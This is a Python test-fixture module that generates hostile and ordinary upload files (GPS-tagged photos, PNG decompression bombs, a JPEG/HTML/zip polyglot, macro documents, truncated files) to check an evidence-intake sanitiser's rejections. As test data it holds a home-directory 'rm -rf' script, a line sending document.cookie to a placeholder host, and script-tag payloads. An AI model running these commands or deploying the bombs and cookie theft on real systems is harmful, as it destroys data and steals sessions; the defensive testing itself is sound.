"""Hostile and ordinary evidence files, made in code (Pillow, zipfile, bytes): no binary fixtures.

For any test that feeds files to the node (intake/evidence.py, the web and API uploads, MMS and
WhatsApp media). Markers are ASCII byte strings a test chooses, so that a raw-byte scan can look
for them afterwards:

- ``jpeg_with_exif_gps(pixel_marker, exif_marker)``: a phone photo whose EXIF (description, artist,
  maker note, GPS), XMP, comment and ICC profile all carry ``exif_marker``; ``pixel_marker`` is drawn
  into the picture as grey blocks that survive JPEG re-encoding, and ``read_pixel_marker`` reads it
  back from any cleaned copy (proof that the picture is still there while its metadata is gone).
  Re-encoded bytes are not predictable: to scan a disk for the cleaned file, scan for a slice of
  ``intake.evidence.clean(data).data``; to scan for the original, scan for ``exif_marker``.
- ``HOSTILE``: name -> (maker, the ``BadFile.reason`` intake/evidence.py gives it).
"""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image, ImageDraw

GPS_IFD = 0x8825
EXIF_IFD = 0x8769
BLOCK = 16  # a marker nibble per 16x16 block: JPEG keeps a flat aligned block within a grey level or two


def _exif(marker: bytes, *, orientation: int | None = None, gps: bool = True) -> Image.Exif:
    exif = Image.Exif()
    text = marker.decode("ascii")
    exif[0x010E] = text  # ImageDescription
    exif[0x013B] = text  # Artist
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0110] = "Model " + text  # Model
    exif[0xA431] = "SN-" + text  # BodySerialNumber (in IFD0: Pillow writes it where it is put)
    if orientation is not None:
        exif[0x0112] = orientation
    exif.get_ifd(EXIF_IFD)[0x927C] = b"MAKERNOTE" + marker  # MakerNote
    exif.get_ifd(EXIF_IFD)[0x9286] = b"ASCII\x00\x00\x00" + marker  # UserComment
    if gps:
        g = exif.get_ifd(GPS_IFD)
        g[1], g[2] = "N", (23.0, 48.0, 36.0)  # Dhaka-ish: the place a worker must not be traced to
        g[3], g[4] = "E", (90.0, 24.0, 0.0)
        g[0x1D] = "2026:12:07"  # GPSDateStamp
        g[0x1B] = b"ASCII\x00\x00\x00GPS" + marker  # GPSProcessingMethod
    return exif


def _xmp(marker: bytes) -> bytes:
    return (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        b'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="XMP' + marker + b'"/>'
        b"</rdf:RDF></x:xmpmeta>"
    )


def _icc(marker: bytes) -> bytes:
    """Opaque bytes in an ICC marker segment: never parsed on load, so any bytes will do."""
    body = b"ICCPROFILE" + marker
    return struct.pack(">I", 128 + len(body)) + b"\x00" * 124 + body


def _marker_picture(pixel_marker: bytes, size: tuple[int, int] = (256, 96)) -> Image.Image:
    """A busy picture with ``pixel_marker`` drawn in its top band as grey blocks, a nibble each."""
    width = max(size[0], 2 * BLOCK * len(pixel_marker))
    image = Image.new("RGB", (width, size[1]), (30, 120, 200))
    draw = ImageDraw.Draw(image)
    for i in range(0, width, 24):
        draw.line([(i, BLOCK), (width - i, size[1])], fill=(200, 60 + i % 150, 40), width=3)
    for i, byte in enumerate(pixel_marker):
        for j, nibble in enumerate((byte >> 4, byte & 15)):
            x = (2 * i + j) * BLOCK
            grey = 8 + 16 * nibble
            draw.rectangle([x, 0, x + BLOCK - 1, BLOCK - 1], fill=(grey, grey, grey))
    return image


def read_pixel_marker(data: bytes, length: int) -> bytes:
    """The marker ``_marker_picture`` drew, read back from an image file (cleaned or not)."""
    image = Image.open(io.BytesIO(data)).convert("L")
    nibbles: list[int] = []
    for k in range(2 * length):
        grey = image.getpixel((k * BLOCK + BLOCK // 2, BLOCK // 2))
        assert isinstance(grey, int)
        nibbles.append(max(0, min(15, round((grey - 8) / 16))))
    return bytes(16 * nibbles[2 * i] + nibbles[2 * i + 1] for i in range(length))


def _jpeg_segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def _insert_after_soi(jpeg: bytes, *segments: bytes) -> bytes:
    assert jpeg[:2] == b"\xff\xd8"
    return jpeg[:2] + b"".join(segments) + jpeg[2:]


def jpeg_with_exif_gps(pixel_marker: bytes, exif_marker: bytes) -> bytes:
    """A phone photo: EXIF with GPS, maker note, serial; XMP; ICC profile; a comment; an APP13
    (Photoshop IPTC) segment; every one carrying ``exif_marker``."""
    out = io.BytesIO()
    _marker_picture(pixel_marker).save(
        out, "JPEG", quality=95, exif=_exif(exif_marker), xmp=_xmp(exif_marker), icc_profile=_icc(exif_marker)
    )
    comment = _jpeg_segment(0xFE, b"COMMENT" + exif_marker)
    iptc = _jpeg_segment(0xED, b"Photoshop 3.0\x008BIM\x04\x04\x00\x00\x00\x00\x00\x10IPTC" + exif_marker)
    return _insert_after_soi(out.getvalue(), comment, iptc)


def jpeg(size: tuple[int, int] = (64, 48), color: tuple[int, int, int] = (10, 200, 90), mode: str = "RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, color if mode != "L" else color[0]).save(out, "JPEG", quality=90)
    return out.getvalue()


def jpeg_rotated_exif(size: tuple[int, int] = (20, 10), orientation: int = 6) -> bytes:
    """A landscape-stored photo whose EXIF says to turn it (6: 90 degrees clockwise): shown portrait.
    Its left half is red, its right half blue, so a test can see which way it was turned."""
    image = Image.new("RGB", size, (255, 0, 0))
    ImageDraw.Draw(image).rectangle([size[0] // 2, 0, size[0], size[1]], fill=(0, 0, 255))
    exif = Image.Exif()
    exif[0x0112] = orientation
    out = io.BytesIO()
    image.save(out, "JPEG", quality=95, exif=exif)
    return out.getvalue()


def jpeg_cmyk() -> bytes:
    out = io.BytesIO()
    Image.new("CMYK", (40, 30), (0, 200, 200, 0)).save(out, "JPEG")
    return out.getvalue()


def truncated_jpeg() -> bytes:
    """A photo cut off in the middle of its picture data (a dropped upload)."""
    data = jpeg_with_exif_gps(b"TRUNC", b"TRUNCEXIF")
    return data[: len(data) * 2 // 3]


def png_with_metadata(marker: bytes, mode: str = "RGB") -> bytes:
    """A PNG carrying ``marker`` in tEXt, iTXt and zTXt chunks, an eXIf chunk (with GPS), XMP and
    an iCCP profile."""
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "TEXT" + marker.decode())
    info.add_itxt("Description", "ITXT" + marker.decode(), lang="en")
    info.add_text("Comment", "ZTXT" + marker.decode(), zip=True)
    info.add_itxt("XML:com.adobe.xmp", _xmp(marker).decode())
    image = Image.new(mode, (48, 32), (250, 10, 10, 128) if mode == "RGBA" else (250, 10, 10))
    out = io.BytesIO()
    image.save(out, "PNG", pnginfo=info, exif=_exif(marker), icc_profile=_icc(marker))
    return out.getvalue()


def png_palette_transparent() -> bytes:
    image = Image.new("P", (16, 16), 0)
    image.putpalette([255, 255, 255, 200, 0, 0] + [0] * (256 * 3 - 6))
    ImageDraw.Draw(image).rectangle([4, 4, 11, 11], fill=1)
    out = io.BytesIO()
    image.save(out, "PNG", transparency=0)
    return out.getvalue()


def png_16bit() -> bytes:
    out = io.BytesIO()
    Image.new("I;16", (20, 20), 40000).save(out, "PNG")
    return out.getvalue()


def truncated_png() -> bytes:
    data = png_with_metadata(b"TRUNCPNG")
    return data[: data.index(b"IDAT") + 12]


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    """A PNG of a few dozen bytes declaring ``width`` x ``height`` grey pixels (10 gigapixels by
    default). Its picture data holds one row only: decoding it would fail as truncated, so a refusal
    as too big proves the size was checked before anything was decoded."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" * (1 + min(width, 4096)), 9)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


def png_zlib_bomb(side: int = 8000) -> bytes:
    """A complete, valid PNG of ``side`` x ``side`` grey pixels (64 MB decoded at 8000) squeezed
    into about 60 KB: decodes fine unless the size is refused first."""
    packer = zlib.compressobj(9)
    row = b"\x00" * (side + 1)
    idat = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    ihdr = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


def gif_two_frames(comment: bytes = b"GIFCOMMENT") -> bytes:
    """An animation: a red first frame, a blue second one, and a comment."""
    frames = [Image.new("RGB", (30, 20), (255, 0, 0)), Image.new("RGB", (30, 20), (0, 0, 255))]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0, comment=comment)
    return out.getvalue()


def webp_with_metadata(marker: bytes, alpha: bool = False) -> bytes:
    mode = "RGBA" if alpha else "RGB"
    image = Image.new(mode, (40, 30), (10, 20, 200, 100) if alpha else (10, 20, 200))
    out = io.BytesIO()
    image.save(out, "WEBP", quality=90, exif=_exif(marker), xmp=_xmp(marker), icc_profile=_icc(marker))
    return out.getvalue()


def zip_archive(members: dict[str, bytes] | None = None, *, stored_first: tuple[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        if stored_first:
            z.writestr(zipfile.ZipInfo(stored_first[0]), stored_first[1], compress_type=zipfile.ZIP_STORED)
        for name, body in (members if members is not None else {"evil.exe": b"MZ" + b"\x00" * 64}).items():
            z.writestr(name, body)
    return out.getvalue()


def polyglot_jpeg_html() -> bytes:
    """A real JPEG that a browser sniffing it would take for HTML (its comment, early in the file,
    is a page with a script) and that is also a zip (an archive appended after the picture)."""
    page = b"<html><body><script>alert('POLYGLOT')</script></body></html>"
    return _insert_after_soi(jpeg(), _jpeg_segment(0xFE, page)) + zip_archive({"POLYGLOT.html": page})


def _content_types(main: str) -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'content-types"><Override PartName="/' + main.encode() + b'" ContentType="application/xml"/></Types>'
    )


def _core(marker: bytes) -> bytes:
    return (
        b'<?xml version="1.0"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/'
        b'metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>AUTHOR'
        + marker
        + b"</dc:creator></cp:coreProperties>"
    )


def docx(marker: bytes = b"DOCXMARKER", *, macros: bool = False) -> bytes:
    """A Word document whose core properties name its author (``marker``); with ``macros``, a .docm."""
    members = {
        "[Content_Types].xml": _content_types("word/document.xml"),
        "_rels/.rels": b'<?xml version="1.0"?><Relationships/>',
        "word/document.xml": b'<?xml version="1.0"?><w:document><w:body>pay slip</w:body></w:document>',
        "docProps/core.xml": _core(marker),
    }
    if macros:
        members["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0VBA"
    return zip_archive(members)


def xlsx(marker: bytes = b"XLSXMARKER") -> bytes:
    return zip_archive(
        {
            "[Content_Types].xml": _content_types("xl/workbook.xml"),
            "xl/workbook.xml": b'<?xml version="1.0"?><workbook/>',
            "docProps/core.xml": _core(marker),
        }
    )


def pptx() -> bytes:
    return zip_archive({"[Content_Types].xml": _content_types("ppt/presentation.xml"), "ppt/presentation.xml": b"<p/>"})


def odf(kind: str = "text", marker: bytes = b"ODFMARKER") -> bytes:
    """An OpenDocument file: ``mimetype`` stored first, as the ODF spec requires."""
    mime = f"application/vnd.oasis.opendocument.{kind}".encode()
    meta = b'<?xml version="1.0"?><office:document-meta><meta:initial-creator>' + marker + b"</meta:initial-creator>"
    return zip_archive(
        {"content.xml": b"<office:document-content/>", "meta.xml": meta, "META-INF/manifest.xml": b"<manifest/>"},
        stored_first=("mimetype", mime),
    )


def pdf(marker: bytes = b"PDFMARKER") -> bytes:
    """A one-page PDF whose Info dictionary names its author (``marker``), with a correct xref."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] >>",
        b"<< /Author (AUTHOR" + marker + b") /Producer (phone) >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for n, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (n, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R /Info 4 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def truncated_pdf() -> bytes:
    data = pdf()
    return data[: len(data) // 2]


def svg() -> bytes:
    return (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b'<script>alert("SVG")</script><rect width="10" height="10"/></svg>'
    )


def html() -> bytes:
    return b"\xef\xbb\xbf\n  <!DOCTYPE html><html><body><script>alert('HTML')</script></body></html>"


def xml() -> bytes:
    return b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'


def html_utf16() -> bytes:
    return "\ufeff<html><script>alert(1)</script></html>".encode("utf-16-le")


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01" + b"\x00" * 57


def pe() -> bytes:
    return b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00"


def shell_script() -> bytes:
    return b"#!/bin/sh\nrm -rf ~\n"


def javascript() -> bytes:
    return b"fetch('https://example.invalid/?c=' + document.cookie)\n"


def plain_text() -> bytes:
    return b"I was not paid for March.\n"


def rar() -> bytes:
    return b"Rar!\x1a\x07\x01\x00" + b"\x00" * 32


def seven_zip() -> bytes:
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 32


def gzip_file() -> bytes:
    return gzip.compress(b"payload " * 100, mtime=0)


def tar_file() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as t:
        info = tarfile.TarInfo("a.txt")
        info.size = 3
        t.addfile(info, io.BytesIO(b"abc"))
    return out.getvalue()


def empty_zip() -> bytes:
    return zip_archive({})


def heic() -> bytes:
    """The start of an iPhone HEIC photo (an ISO media ``ftyp`` box): not decodable here."""
    return struct.pack(">I", 24) + b"ftypheic" + b"\x00\x00\x00\x00mif1heic" + b"\x00" * 64


def random_bytes(n: int = 4096) -> bytes:
    return bytes((i * 2654435761 >> 7) & 0xFF for i in range(n))


#: name -> (maker, the BadFile reason intake/evidence.py gives it)
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "empty": (lambda: b"", "empty"),
    "png_bomb": (png_bomb, "too_big_image"),
    "png_bomb_pillow_limit": (lambda: png_bomb(10_000, 10_000), "too_big_image"),
    "png_zlib_bomb": (png_zlib_bomb, "too_big_image"),
    "truncated_jpeg": (truncated_jpeg, "damaged"),
    "truncated_png": (truncated_png, "damaged"),
    "truncated_pdf": (truncated_pdf, "damaged"),
    "jpeg_magic_only": (lambda: b"\xff\xd8\xff\xe0" + b"\x00" * 100, "damaged"),
    "svg": (svg, "script"),
    "html": (html, "script"),
    "html_utf16": (html_utf16, "script"),
    "xml": (xml, "script"),
    "elf": (elf, "script"),
    "pe": (pe, "script"),
    "shell_script": (shell_script, "script"),
    "docm": (lambda: docx(macros=True), "script"),
    "zip": (zip_archive, "archive"),
    "empty_zip": (empty_zip, "archive"),
    "rar": (rar, "archive"),
    "seven_zip": (seven_zip, "archive"),
    "gzip": (gzip_file, "archive"),
    "tar": (tar_file, "archive"),
    "heic": (heic, "unsupported"),
    "javascript": (javascript, "unsupported"),
    "plain_text": (plain_text, "unsupported"),
    "random_bytes": (random_bytes, "unsupported"),
}
